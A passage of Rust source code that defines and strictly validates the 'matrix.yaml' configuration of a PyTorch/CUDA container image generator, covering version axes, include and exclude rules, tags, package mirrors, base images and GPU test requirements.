//! `matrix.yaml`: the images a team wants, as axes (`torch`, `cuda`, `cudnn`, `python`, `os`,
//! `variants`) plus `include`/`exclude` rules, the registry and repository, tag settings and mirrors.
//!
//! Loading is strict: an unknown key, a wrong type, a malformed version, a value listed twice or
//! an input past the limits of [`crate::model::yaml`] is an error naming the file, line and
//! column, with a hint (`did you mean torch?`). Every string that can reach a Dockerfile is
//! validated here, so the renderer only ever sees safe values. Versions are kept as strings
//! exactly as written (`12.10` stays `12.10`). The matrix keeps where each of its values is
//! ([`Matrix::locations`]), so checks against the knowledge can point at them too. This module
//! does not touch Docker.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

pub use crate::model::axes::{
    DevelToolkit, OsName, Platform, TorchWheels, Variant, VersionText, WheelSource,
};
use crate::model::extensions::{
    check_apt_package, check_env_key, check_extra_index, check_requirement, check_steps_path,
    check_user, check_workdir,
};
pub(crate) use crate::model::extensions::{Extensions, ExtraIndex, ImageUser};
use crate::model::flavours::{check_flavour_name, Builtin};
pub use crate::model::flavours::{Flavour, FlavourDefinition};
use crate::model::http_url::HttpUrl;
use crate::model::names::edit_distance;
use crate::model::version::{TorchText, TorchVersion};
use crate::model::yaml::{self, Locations, Problem, LIMITS};

/// The most cells the axes and include rules may ask for: more is a mistake (an axis pasted
/// many times), and resolving it would take memory in proportion.
pub(crate) const MAX_CELLS: usize = 10_000;

/// An error in a matrix file, with where it is and what to do about it.
#[derive(Debug, thiserror::Error)]
pub enum MatrixError {
    #[error("cannot read matrix {path}: {source}{hint}", hint = read_hint(source))]
    Read {
        path: String,
        source: std::io::Error,
    },
    #[error("{path}{location}: {message}{hint}", location = location_suffix(*line, *column), hint = hint_suffix(hint))]
    Invalid {
        path: String,
        line: Option<usize>,
        column: Option<usize>,
        message: String,
        hint: Option<String>,
    },
}

fn location_suffix(line: Option<usize>, column: Option<usize>) -> String {
    match (line, column) {
        (Some(line), Some(column)) => format!(":{line}:{column}"),
        (Some(line), None) => format!(":{line}"),
        _ => String::new(),
    }
}

fn read_hint(error: &std::io::Error) -> &'static str {
    if error.kind() == std::io::ErrorKind::NotFound {
        "\nhint: run imagegen in the project's folder (where matrix.yaml is), or name it with --project DIR (IMAGEGEN_PROJECT), or the matrix with --matrix PATH (IMAGEGEN_MATRIX)"
    } else {
        ""
    }
}

impl MatrixError {
    /// A problem the YAML reader found in `path`.
    pub(crate) fn from_problem(path: &str, problem: Problem) -> MatrixError {
        MatrixError::Invalid {
            path: path.to_string(),
            line: problem.at.map(|at| at.line),
            column: problem.at.map(|at| at.column),
            message: problem.message,
            hint: problem.hint,
        }
    }
}

fn hint_suffix(hint: &Option<String>) -> String {
    hint.as_ref()
        .map(|h| format!("\nhint: {h}"))
        .unwrap_or_default()
}

/// An include or exclude rule: each present key narrows the cells it applies to.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub(crate) struct CellRule {
    #[serde(default, deserialize_with = "optional_torch")]
    pub(crate) torch: Option<TorchText>,
    #[serde(default)]
    pub(crate) cuda: Option<VersionText>,
    #[serde(default)]
    pub(crate) cudnn: Option<VersionText>,
    #[serde(default)]
    pub(crate) python: Option<VersionText>,
    #[serde(default)]
    pub(crate) os: Option<OsName>,
    #[serde(default)]
    pub(crate) variants: Option<Vec<Variant>>,
    #[serde(default)]
    pub(crate) platforms: Option<Vec<Platform>>,
    // The team's own additions for the images this rule matches (include rules only).
    /// Extra requirements (PEP 508) resolved into the image's lock with torch (see
    /// `model::extensions`).
    #[serde(default)]
    pub(crate) pip: Vec<String>,
    /// Package indexes of the team's own (URLs without credentials).
    #[serde(default)]
    pub(crate) extra_indexes: Vec<ExtraIndex>,
    /// Extra Debian/Ubuntu packages.
    #[serde(default)]
    pub(crate) apt: Vec<String>,
    /// A Dockerfile fragment under the project, placed after the lock install.
    #[serde(default)]
    pub(crate) steps: Option<PathBuf>,
    #[serde(default)]
    pub(crate) env: BTreeMap<String, String>,
    /// The non-root user the image runs as.
    #[serde(default)]
    pub(crate) user: Option<ImageUser>,
    #[serde(default)]
    pub(crate) workdir: Option<String>,
    /// Extra OCI labels for the images this rule matches.
    #[serde(default)]
    pub(crate) labels: BTreeMap<String, String>,
}

impl CellRule {
    /// The additions this rule carries.
    pub(crate) fn extensions(&self) -> Extensions {
        Extensions {
            pip: self.pip.clone(),
            extra_indexes: self.extra_indexes.clone(),
            apt: self.apt.clone(),
            steps: self
                .steps
                .as_ref()
                .map(|p| p.to_string_lossy().into_owned()),
            env: self.env.clone(),
            labels: self.labels.clone(),
            user: self.user.clone(),
            workdir: self.workdir.clone(),
        }
    }

    /// Whether this rule's keys match an image's values (a torch series matches its releases,
    /// compared as numbers).
    pub(crate) fn matches(
        &self,
        torch: &TorchVersion,
        cuda: &str,
        python: &str,
        os: &str,
        variant: Variant,
        platform: &str,
    ) -> bool {
        let series = |rule: &VersionText, value: &str| {
            value == rule.as_str() || value.starts_with(&format!("{}.", rule.as_str()))
        };
        self.torch.as_ref().is_none_or(|t| t.covers(torch))
            && self.cuda.as_ref().is_none_or(|c| c.as_str() == cuda)
            && self.python.as_ref().is_none_or(|p| series(p, python))
            && self.os.as_ref().is_none_or(|o| o.as_str() == os)
            && self
                .variants
                .as_ref()
                .is_none_or(|variants| variants.contains(&variant))
            && self
                .platforms
                .as_ref()
                .is_none_or(|platforms| platforms.iter().any(|p| p.as_str() == platform))
    }
}

/// The test policy (`tests:`): which GPU models must each have a passing self-test result on an
/// image's digest before its aliases move. Empty `require` (the default) is "any one GPU": the
/// first passing result moves them, as a build that tests on its own GPU always did.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub(crate) struct TestPolicy {
    /// GPU models as words of the name CUDA reports (`H100` matches `NVIDIA H100 80GB HBM3`,
    /// `H100 NVL` needs both words, `A100` matches `NVIDIA A100-SXM4-80GB`); case does not matter.
    #[serde(default)]
    pub(crate) require: Vec<String>,
}

/// The longest GPU model name a policy may hold.
const MAX_GPU_MODEL_LENGTH: usize = 40;

/// Checks one required GPU model: letters, digits, spaces, `-`, `_` and `.`, starting with a
/// letter or digit, at most [`MAX_GPU_MODEL_LENGTH`] characters.
fn check_gpu_model(model: &str) -> Result<(), String> {
    if model.trim().is_empty() {
        return Err("`tests.require` lists an empty GPU model".into());
    }
    if model.len() > MAX_GPU_MODEL_LENGTH
        || !model.starts_with(|c: char| c.is_ascii_alphanumeric())
        || !model
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || " -_.".contains(c))
    {
        return Err(format!(
            "`tests.require` lists {model:?}, which is not a GPU model name (letters, digits, spaces, `-`, `_`, `.`; at most {MAX_GPU_MODEL_LENGTH} characters)"
        ));
    }
    Ok(())
}

/// Tag settings.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub(crate) struct TagSettings {
    /// The immutable full tag. Placeholders: {torch} {torch_series} {cuda} {cudnn_major} {cudnn}
    /// {python} {variant} {os}, and two the manifest decides: {revision} (1, or the next number
    /// when the content under the rest of the tag changed) and {date} (YYYYMMDD of the day the
    /// content was first built).
    #[serde(default = "default_full_tag")]
    pub(crate) full: String,
    /// The OS that short aliases (without an OS suffix) and `latest` point at; the newest OS of
    /// the matrix when absent.
    #[serde(default)]
    pub(crate) default_os: Option<OsName>,
    /// The Python that aliases point at when the matrix has several; the newest when absent.
    #[serde(default)]
    pub(crate) default_python: Option<VersionText>,
    /// Whether to give the newest stable torch with its default CUDA the `latest` alias.
    #[serde(default = "default_true")]
    pub(crate) latest: bool,
}

impl Default for TagSettings {
    fn default() -> Self {
        Self {
            full: default_full_tag(),
            default_os: None,
            default_python: None,
            latest: true,
        }
    }
}

fn default_full_tag() -> String {
    "{torch}-cuda{cuda}-cudnn{cudnn_major}-{variant}-{os}".to_string()
}

fn default_true() -> bool {
    true
}

/// Where images get their packages, for teams behind a proxy or air-gapped. Each host a build
/// reaches has a key here: the apt archives (Ubuntu's, its ports archive for arm64, Debian's,
/// NVIDIA's CUDA repository), the Python package indexes and the base image registry.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub(crate) struct Mirrors {
    /// Base of the torch wheel indexes; `/cu126` etc. is appended. Default download.pytorch.org/whl.
    #[serde(default)]
    pub(crate) torch_index: Option<HttpUrl>,
    /// A plain PyPI-style index for everything else (and for torch with `torch_wheels: pypi`).
    /// Default: https://pypi.org/simple.
    #[serde(default)]
    pub(crate) pip_index: Option<HttpUrl>,
    /// An Ubuntu archive mirror replacing archive.ubuntu.com and security.ubuntu.com (amd64).
    #[serde(default)]
    pub(crate) apt: Option<HttpUrl>,
    /// An Ubuntu ports archive mirror replacing ports.ubuntu.com/ubuntu-ports (arm64).
    #[serde(default)]
    pub(crate) apt_ports: Option<HttpUrl>,
    /// A Debian archive mirror replacing deb.debian.org/debian (Debian bases).
    #[serde(default)]
    pub(crate) debian: Option<HttpUrl>,
    /// A Debian security archive mirror replacing deb.debian.org/debian-security and
    /// security.debian.org/debian-security.
    #[serde(default)]
    pub(crate) debian_security: Option<HttpUrl>,
    /// A mirror of NVIDIA's CUDA apt repositories replacing
    /// https://developer.download.nvidia.com/compute/cuda/repos (nvidia/cuda bases configure it).
    #[serde(default)]
    pub(crate) nvidia_apt: Option<HttpUrl>,
    /// A registry prefix for the base images (`nvidia/cuda`), e.g. `mirror.example.com/dockerhub`.
    #[serde(default)]
    pub(crate) base_registry: Option<String>,
}

/// The base image of runtime images: one reference or pattern for every cell, or one per OS.
/// Patterns take `{cuda}` (13.0), `{cuda_full}` (13.0.0), `{os}` (ubuntu24.04) and `{arch}`
/// (amd64, arm64).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(untagged)]
pub(crate) enum BaseImageRule {
    Pattern(String),
    /// OS name → reference or pattern; cells of other OSes build on nvidia/cuda.
    ByOs(BTreeMap<String, String>),
}

/// The values a base image pattern can use.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct BaseImageFields<'a> {
    pub(crate) cuda: &'a str,
    pub(crate) cuda_full: &'a str,
    pub(crate) os: &'a str,
    pub(crate) arch: &'a str,
}

/// The placeholders of base image patterns.
pub(crate) const BASE_IMAGE_PLACEHOLDERS: &[&str] = &["cuda", "cuda_full", "os", "arch"];

impl BaseImageRule {
    /// The base image of a cell, or `None` when this rule does not name one for its OS.
    pub(crate) fn image_for(&self, fields: &BaseImageFields<'_>) -> Option<String> {
        let pattern = match self {
            BaseImageRule::Pattern(pattern) => pattern,
            BaseImageRule::ByOs(by_os) => by_os.get(fields.os)?,
        };
        Some(
            pattern
                .replace("{cuda_full}", fields.cuda_full)
                .replace("{cuda}", fields.cuda)
                .replace("{os}", fields.os)
                .replace("{arch}", fields.arch),
        )
    }

    /// Every pattern with where it is written (`base_images.runtime` or `.runtime.debian12`).
    fn patterns(&self) -> Vec<(String, &str)> {
        match self {
            BaseImageRule::Pattern(pattern) => vec![(String::new(), pattern.as_str())],
            BaseImageRule::ByOs(by_os) => by_os
                .iter()
                .map(|(os, pattern)| (format!(".{os}"), pattern.as_str()))
                .collect(),
        }
    }
}

/// Base image overrides: use these instead of nvidia/cuda (internal bases, a Debian base, tests).
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub(crate) struct BaseImages {
    #[serde(default)]
    pub(crate) runtime: Option<BaseImageRule>,
}

impl BaseImages {
    /// Whether the matrix names the runtime base of cells of `os` (else they use nvidia/cuda).
    pub(crate) fn covers_os(&self, os: &str) -> bool {
        match &self.runtime {
            None => false,
            Some(BaseImageRule::Pattern(_)) => true,
            Some(BaseImageRule::ByOs(by_os)) => by_os.contains_key(os),
        }
    }

    /// The runtime base image the matrix names for a cell, if any.
    pub(crate) fn runtime_for(&self, fields: &BaseImageFields<'_>) -> Option<String> {
        self.runtime.as_ref()?.image_for(fields)
    }
}

/// The whole matrix file.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Matrix {
    /// Registry host, e.g. `ghcr.io` or `127.0.0.1:5000`.
    pub(crate) registry: String,
    /// Repository within the registry, e.g. `acme/pytorch`.
    pub(crate) repository: String,
    #[serde(deserialize_with = "torch_list")]
    pub(crate) torch: Vec<TorchText>,
    pub(crate) cuda: Vec<VersionText>,
    /// cuDNN versions or majors; absent means the one the torch wheel bundles.
    #[serde(default)]
    pub(crate) cudnn: Vec<VersionText>,
    /// Python versions; absent means the Python the OS ships.
    #[serde(default)]
    pub(crate) python: Vec<VersionText>,
    pub(crate) os: Vec<OsName>,
    #[serde(default = "default_variants")]
    pub(crate) variants: Vec<Variant>,
    /// Target platforms. With more than `linux/amd64`, each image is built per platform under a
    /// `-amd64`/`-arm64` suffixed tag and `imagegen publish` assembles the full tag and its aliases
    /// as OCI image indexes.
    #[serde(default = "default_platforms")]
    pub(crate) platforms: Vec<Platform>,
    #[serde(default)]
    pub(crate) include: Vec<CellRule>,
    #[serde(default)]
    pub(crate) exclude: Vec<CellRule>,
    #[serde(default)]
    pub(crate) tags: TagSettings,
    #[serde(default)]
    pub(crate) mirrors: Mirrors,
    /// Extra OCI labels for every image (`org.opencontainers.image.vendor`, ...).
    #[serde(default)]
    pub(crate) labels: BTreeMap<String, String>,
    /// Allow knowledge entries marked `verified: false` (e.g. CUDA 13.2 driver minimum).
    #[serde(default)]
    pub(crate) allow_unverified: bool,
    /// A directory whose templates replace the embedded ones (`runtime.Dockerfile.j2`, ...),
    /// relative to the matrix file.
    #[serde(default)]
    pub(crate) templates: Option<PathBuf>,
    #[serde(default)]
    pub(crate) base_images: BaseImages,
    /// Where torch comes from: PyTorch's index (`pytorch`, default) or a plain PyPI-style index
    /// (`pypi`).
    #[serde(default)]
    pub(crate) torch_wheels: TorchWheels,
    /// Where devel images get nvcc: NVIDIA's apt repository (`apt`, default) or PyPI (`pypi`).
    #[serde(default)]
    pub(crate) devel_toolkit: DevelToolkit,
    /// Where images install their wheels from: the host-side cache (`cache`, default), the
    /// cache with the runtime venv made on the host (`host`) or the indexes, by pip inside the
    /// build (`index`).
    #[serde(default)]
    pub(crate) wheels: WheelSource,
    /// How a `wheels: host` runtime venv is cut into layers: along the wheels (`wheels`,
    /// default) or as one layer (`one`); see `pipeline::venv_cut`.
    #[serde(default)]
    pub(crate) venv_layers: crate::model::axes::VenvLayers,
    /// A PEM file of CA certificates (a TLS-intercepting proxy's), relative to the matrix file:
    /// copied into each build context and installed into the image's system store, where it stays.
    #[serde(default)]
    pub(crate) ca_bundle: Option<PathBuf>,
    /// Whether every image installs its Python packages from a lock (`images/<name>/requirements.lock`).
    /// Default: yes when an embedded runtime or devel template is in use (they install from it);
    /// with templates of your own, `lock: true` makes imagegen lock and check them too.
    #[serde(default)]
    pub(crate) lock: Option<bool>,
    /// A cell whose OS release or nvidia/cuda image set is past (or within 90 days of) its end
    /// of life: `warn` (default) or `refuse`.
    #[serde(default)]
    pub(crate) end_of_life: crate::model::axes::EndOfLifePolicy,
    /// Which GPU models must pass the self-test before aliases move (`tests: {require: [H100]}`).
    #[serde(default)]
    pub(crate) tests: TestPolicy,
    // The team's own additions for every image (see `model::extensions`).
    /// Extra requirements (PEP 508) resolved into the image's lock with torch (see
    /// `model::extensions`).
    #[serde(default)]
    pub(crate) pip: Vec<String>,
    /// Package indexes of the team's own (URLs without credentials).
    #[serde(default)]
    pub(crate) extra_indexes: Vec<ExtraIndex>,
    /// Extra Debian/Ubuntu packages.
    #[serde(default)]
    pub(crate) apt: Vec<String>,
    /// A Dockerfile fragment under the project, placed after the lock install.
    #[serde(default)]
    pub(crate) steps: Option<PathBuf>,
    #[serde(default)]
    pub(crate) env: BTreeMap<String, String>,
    /// The non-root user the image runs as.
    #[serde(default)]
    pub(crate) user: Option<ImageUser>,
    #[serde(default)]
    pub(crate) workdir: Option<String>,
    /// Images built FROM each runtime image, by name (`jupyter`, `ssh` built in; see
    /// `model::flavours`). None unless the matrix names them.
    #[serde(default)]
    pub(crate) flavours: BTreeMap<String, FlavourDefinition>,
    /// `file:line` of each `include` entry, so rejections can point at the rule that made them.
    #[serde(skip)]
    pub(crate) include_locations: Vec<String>,
    /// Where each key and value is in the file (`torch[1]`, `include[0].cuda`).
    #[serde(skip)]
    pub(crate) locations: Locations,
}

fn default_variants() -> Vec<Variant> {
    vec![Variant::Runtime, Variant::Devel]
}

fn default_platforms() -> Vec<Platform> {
    vec![Platform::amd64()]
}

impl Matrix {
    /// The additions the matrix makes to every image (the labels apart: they are `labels`).
    pub(crate) fn extensions(&self) -> Extensions {
        Extensions {
            pip: self.pip.clone(),
            extra_indexes: self.extra_indexes.clone(),
            apt: self.apt.clone(),
            steps: self
                .steps
                .as_ref()
                .map(|p| p.to_string_lossy().into_owned()),
            env: self.env.clone(),
            labels: BTreeMap::new(),
            user: self.user.clone(),
            workdir: self.workdir.clone(),
        }
    }

    /// The additions of one image: the matrix's, then each include rule's that matches it, in
    /// order.
    pub(crate) fn extensions_for(
        &self,
        torch: &TorchVersion,
        cuda: &str,
        python: &str,
        os: &str,
        variant: Variant,
        platform: &str,
    ) -> Extensions {
        self.include
            .iter()
            .filter(|rule| rule.matches(torch, cuda, python, os, variant, platform))
            .fold(self.extensions(), |all, rule| {
                all.merged(&rule.extensions())
            })
    }

    /// Every step fragment the matrix names, as written (relative to the matrix file).
    pub(crate) fn steps_paths(&self) -> Vec<String> {
        let mut paths: Vec<String> = std::iter::once(&self.steps)
            .chain(self.include.iter().map(|rule| &rule.steps))
            .chain(self.flavours.values().map(|flavour| &flavour.steps))
            .flatten()
            .map(|p| p.to_string_lossy().into_owned())
            .collect();
        paths.sort();
        paths.dedup();
        paths
    }

    /// Whether images are built per platform and published as indexes: any platform but amd64 alone.
    pub(crate) fn multi_platform(&self) -> bool {
        self.platforms
            .iter()
            .chain(
                self.include
                    .iter()
                    .filter_map(|r| r.platforms.as_ref())
                    .flatten(),
            )
            .any(|p| *p != Platform::amd64())
    }
}

/// A torch value of the matrix, read once: a malformed version is refused as any version is
/// (`malformed version "2.x"`), then one that is no torch series or release with the reason
/// (`` `2` is not a valid torch version ``), each at its own line and column.
struct MatrixTorch(TorchText);

impl<'de> Deserialize<'de> for MatrixTorch {
    fn deserialize<D: serde::Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        let written = VersionText::deserialize(deserializer)?;
        TorchText::of_version(written)
            .map(MatrixTorch)
            .map_err(serde::de::Error::custom)
    }
}

/// A serde message for a torch value [`MatrixTorch`] refused (`` torch: `2` is not a valid torch
/// version: ... ``): the reason as the version parser words it, and where the value is (a `torch`
/// axis entry or an include or exclude rule's `torch` written exactly so).
fn refused_torch_at(locations: &Locations, message: &str) -> Option<(String, yaml::Position)> {
    let start = message.find('`')?;
    let reason = &message[start..];
    let text = reason[1..].split('`').next()?;
    if !reason[1 + text.len()..].starts_with("` is not a valid torch version") {
        return None;
    }
    let is_torch = |path: &str| {
        let under_rule = ["include[", "exclude["]
            .iter()
            .any(|list| path.starts_with(list) && path.ends_with("].torch"));
        under_rule || (path.starts_with("torch[") && path.ends_with(']'))
    };
    let entry = locations
        .entries
        .iter()
        .find(|entry| is_torch(&entry.path) && entry.scalar.as_deref() == Some(text))?;
    Some((reason.to_string(), entry.at))
}

/// serde_yaml places a refused URL ([`HttpUrl`]) at the mapping holding it (`mirrors`,
/// `extra_indexes[0]`): the value under that path whose parse gives this very message is the
/// one refused, named by its whole path at its own line. The message holds the URL redacted.
fn refused_url_at(locations: &Locations, message: &str) -> Option<(String, yaml::Position)> {
    let (holder, reason) = message.split_once(": ")?;
    locations.entries.iter().find_map(|entry| {
        let under = entry.path == holder
            || entry.path.starts_with(&format!("{holder}."))
            || entry.path.starts_with(&format!("{holder}["));
        let refused = HttpUrl::parse(entry.scalar.as_deref()?).err()?;
        (under && refused.to_string() == reason)
            .then(|| (format!("{}: {reason}", entry.path), entry.at))
    })
}

/// The `torch` axis, each value read as [`MatrixTorch`].
fn torch_list<'de, D: serde::Deserializer<'de>>(
    deserializer: D,
) -> Result<Vec<TorchText>, D::Error> {
    let values = Vec::<MatrixTorch>::deserialize(deserializer)?;
    Ok(values.into_iter().map(|MatrixTorch(torch)| torch).collect())
}

/// A rule's `torch`, read as [`MatrixTorch`].
fn optional_torch<'de, D: serde::Deserializer<'de>>(
    deserializer: D,
) -> Result<Option<TorchText>, D::Error> {
    let value = Option::<MatrixTorch>::deserialize(deserializer)?;
    Ok(value.map(|MatrixTorch(torch)| torch))
}

/// Every top-level key, for "did you mean" hints.
const TOP_LEVEL_KEYS: &[&str] = &[
    "registry",
    "repository",
    "torch",
    "cuda",
    "cudnn",
    "python",
    "os",
    "variants",
    "include",
    "exclude",
    "tags",
    "mirrors",
    "labels",
    "allow_unverified",
    "templates",
    "base_images",
    "torch_wheels",
    "devel_toolkit",
    "wheels",
    "venv_layers",
    "ca_bundle",
    "lock",
    "tests",
    "end_of_life",
    "pip",
    "extra_indexes",
    "apt",
    "steps",
    "env",
    "user",
    "flavours",
    "workdir",
];

impl Matrix {
    /// Validates the matrix the loader read from `path` (at most one byte over the size
    /// limit); relative paths in it are taken relative to `path`'s directory.
    pub(crate) fn from_bytes(path: &Path, bytes: &[u8]) -> Result<Matrix, MatrixError> {
        let name = path.display().to_string();
        let bytes = yaml::within_size(bytes, &LIMITS)
            .map_err(|problem| MatrixError::from_problem(&name, problem))?;
        let text =
            yaml::decode(bytes).map_err(|problem| MatrixError::from_problem(&name, problem))?;
        let mut matrix = Self::parse(text, &name)?;
        let directory = path.parent().unwrap_or(Path::new("."));
        for relative in [&mut matrix.templates, &mut matrix.ca_bundle]
            .into_iter()
            .flatten()
        {
            if relative.is_relative() {
                *relative = directory.join(&*relative);
            }
        }
        Ok(matrix)
    }

    /// Parses matrix text; `path` is only used in messages. The text is read within
    /// [`yaml::LIMITS`] before serde sees it.
    pub fn parse(text: &str, path: &str) -> Result<Matrix, MatrixError> {
        let locations = yaml::locate(text, &LIMITS, path)
            .map_err(|problem| MatrixError::from_problem(path, problem))?;
        let matrix: Matrix = serde_yaml::from_str(text).map_err(|error| {
            let message = error.to_string();
            let (line, column) = match error.location() {
                Some(at) => (Some(at.line()), Some(at.column())),
                None => (None, None),
            };
            // serde_yaml appends " at line L column C"; the location already leads the message.
            let message = match message.find(" at line ") {
                Some(index) => message[..index].to_string(),
                None => message,
            };
            // serde_yaml places a refused torch at the list or rule holding it: place it at the
            // value, and say it as the version parser does.
            let (message, line, column) = match refused_torch_at(&locations, &message)
                .or_else(|| refused_url_at(&locations, &message))
            {
                Some((reason, at)) => (reason, Some(at.line), Some(at.column)),
                None => (message, line, column),
            };
            let hint = unknown_field_hint(&message).or_else(|| {
                message
                    .contains("expected a sequence")
                    .then(|| "axes are lists: write `cuda: [\"12.6\"]`".to_string())
            });
            MatrixError::Invalid {
                path: path.to_string(),
                line,
                column,
                message,
                hint,
            }
        })?;
        let mut matrix = matrix;
        matrix.validate(&locations, path)?;
        matrix.include_locations = (0..matrix.include.len())
            .map(|index| {
                locations
                    .line_of(&format!("include[{index}]"))
                    .unwrap_or_else(|| path.to_string())
            })
            .collect();
        matrix.locations = locations;
        Ok(matrix)
    }

    /// Checks what serde cannot: non-empty axes without repeats, a bounded number of cells,
    /// safe strings (torch versions were read as such by serde, at their line).
    fn validate(&self, locations: &Locations, path: &str) -> Result<(), MatrixError> {
        let invalid = |key: &str, needle: &str, message: String, hint: Option<String>| {
            let at = locations.search(key, needle);
            MatrixError::Invalid {
                path: path.to_string(),
                line: at.map(|at| at.line),
                column: at.map(|at| at.column),
                message,
                hint,
            }
        };
        let invalid_at = |at: Option<yaml::Position>, message: String, hint: Option<String>| {
            MatrixError::Invalid {
                path: path.to_string(),
                line: at.map(|at| at.line),
                column: at.map(|at| at.column),
                message,
                hint,
            }
        };
        for (key, empty) in [
            ("torch", self.torch.is_empty()),
            ("cuda", self.cuda.is_empty()),
            ("os", self.os.is_empty()),
            ("variants", self.variants.is_empty()),
            ("platforms", self.platforms.is_empty()),
        ] {
            if empty {
                return Err(invalid(
                    key,
                    "",
                    format!("`{key}` is empty: list at least one value"),
                    None,
                ));
            }
        }
        for (key, values) in self.axes() {
            for (index, value) in values.iter().enumerate() {
                if let Some(first) = values[..index].iter().position(|v| v == value) {
                    let first_at = locations.value_at(&format!("{key}[{first}]"));
                    return Err(invalid_at(
                        locations.value_at(&format!("{key}[{index}]")),
                        format!(
                            "`{key}` lists {value} twice{}",
                            first_at
                                .map(|at| format!(" (first at {}:{})", at.line, at.column))
                                .unwrap_or_default()
                        ),
                        Some("list each value once".into()),
                    ));
                }
            }
        }
        let cells = self.cell_count();
        if cells > MAX_CELLS {
            let (widest, _) = self
                .axes()
                .into_iter()
                .max_by_key(|(_, values)| values.len())
                .expect("the axes are not empty");
            return Err(invalid_at(
                locations.key_at(widest),
                format!(
                    "the matrix asks for {cells} cells ({}), more than the limit of {MAX_CELLS}",
                    self.axes()
                        .iter()
                        .filter(|(_, values)| !values.is_empty())
                        .map(|(key, values)| format!("{} {key}", values.len()))
                        .collect::<Vec<_>>()
                        .join(" × ")
                ),
                Some("list the versions you build, not every version there is".into()),
            ));
        }
        check_reference_part("registry", &self.registry, true)
            .map_err(|m| invalid("registry", &self.registry, m, None))?;
        check_reference_part("repository", &self.repository, false).map_err(|m| {
            invalid(
                "repository",
                &self.repository,
                m,
                Some("lowercase letters, digits, `.`, `_`, `-` and `/`".into()),
            )
        })?;
        let name_length = self.registry.len() + 1 + self.repository.len();
        if name_length > MAX_NAME_LENGTH {
            return Err(invalid(
                "repository",
                &self.repository,
                format!(
                    "the image name {}/{} is {name_length} characters long; Docker allows at most {MAX_NAME_LENGTH}",
                    self.registry, self.repository
                ),
                None,
            ));
        }
        if !self
            .repository
            .chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || "._-/".contains(c))
        {
            return Err(invalid(
                "repository",
                &self.repository,
                format!("repository {:?} must be lowercase", self.repository),
                None,
            ));
        }
        // The mirrors' URLs were parsed and checked when read (`HttpUrl`): no credentials, and
        // nothing a shell or the apt mirrors' `sed s#…#…#` expression reads specially.
        if let Some(prefix) = &self.mirrors.base_registry {
            check_reference_part("base_registry", prefix, true)
                .map_err(|m| invalid("base_registry", prefix, format!("mirrors.{m}"), None))?;
        }
        if let Some(rule) = &self.base_images.runtime {
            for (suffix, pattern) in rule.patterns() {
                let os = suffix.trim_start_matches('.');
                if !os.is_empty() {
                    serde_yaml::from_str::<OsName>(os).map_err(|e| {
                        invalid(
                            os,
                            "",
                            format!("base_images.runtime: {}", e.to_string().trim()),
                            None,
                        )
                    })?;
                }
                check_base_image_pattern(pattern).map_err(|m| {
                    invalid(
                        if os.is_empty() { "runtime" } else { os },
                        pattern,
                        format!("base_images.runtime{suffix}: {m}"),
                        Some(format!(
                            "placeholders: {}",
                            BASE_IMAGE_PLACEHOLDERS
                                .iter()
                                .map(|p| format!("{{{p}}}"))
                                .collect::<Vec<_>>()
                                .join(" ")
                        )),
                    )
                })?;
            }
        }
        if let Some(path) = &self.ca_bundle {
            if path.as_os_str().is_empty() {
                return Err(invalid(
                    "ca_bundle",
                    "",
                    "ca_bundle is empty: name a PEM file of CA certificates".into(),
                    None,
                ));
            }
        }
        for (key, value) in &self.labels {
            check_label(key, value).map_err(|m| invalid(key, "", m, None))?;
        }
        self.validate_extensions(locations, path)?;
        self.validate_flavours(locations, path)?;
        check_tag_template(&self.tags.full)
            .map_err(|m| invalid("full", "", format!("tags.full: {m}"), None))?;
        for (index, model) in self.tests.require.iter().enumerate() {
            let at = || locations.value_at(&format!("tests.require[{index}]"));
            check_gpu_model(model).map_err(|m| {
                invalid_at(
                    at(),
                    m,
                    Some(
                        "name GPU models as CUDA reports them, e.g. `require: [H100, H200, L40S]`"
                            .into(),
                    ),
                )
            })?;
            let key = model.to_ascii_lowercase();
            if let Some(first) = self.tests.require[..index]
                .iter()
                .position(|other| other.to_ascii_lowercase() == key)
            {
                let first_at = locations.value_at(&format!("tests.require[{first}]"));
                return Err(invalid_at(
                    at(),
                    format!(
                        "`tests.require` lists {model} twice{}",
                        first_at
                            .map(|at| format!(" (first at {}:{})", at.line, at.column))
                            .unwrap_or_default()
                    ),
                    Some("list each GPU model once".into()),
                ));
            }
        }
        Ok(())
    }
}

impl Matrix {
    /// Checks the additions (`pip`, `extra_indexes`, `apt`, `steps`, `env`, `labels`, `user`,
    /// `workdir`) at the top and on each include rule, each error at its line; exclude rules may
    /// not carry them.
    fn validate_extensions(&self, locations: &Locations, path: &str) -> Result<(), MatrixError> {
        let error_at = |at: Option<yaml::Position>, message: String, hint: Option<&str>| {
            MatrixError::Invalid {
                path: path.to_string(),
                line: at.map(|at| at.line),
                column: at.map(|at| at.column),
                message,
                hint: hint.map(str::to_string),
            }
        };
        for (index, rule) in self.exclude.iter().enumerate() {
            if !rule.extensions().is_empty() {
                return Err(error_at(
                    locations.value_at(&format!("exclude[{index}]")),
                    "an exclude rule takes no additions (pip, apt, steps, env, labels, user, workdir, extra_indexes)".into(),
                    Some("put them at the top of the matrix or on an include rule"),
                ));
            }
        }
        let scopes = std::iter::once((String::new(), self.extensions())).chain(
            self.include
                .iter()
                .enumerate()
                .map(|(index, rule)| (format!("include[{index}]."), rule.extensions())),
        );
        for (prefix, extensions) in scopes {
            for (index, requirement) in extensions.pip.iter().enumerate() {
                check_requirement(requirement).map_err(|m| {
                    error_at(
                        locations.value_at(&format!("{prefix}pip[{index}]")),
                        m,
                        Some("pip takes requirements as PEP 508 writes them; indexes go in extra_indexes"),
                    )
                })?;
            }
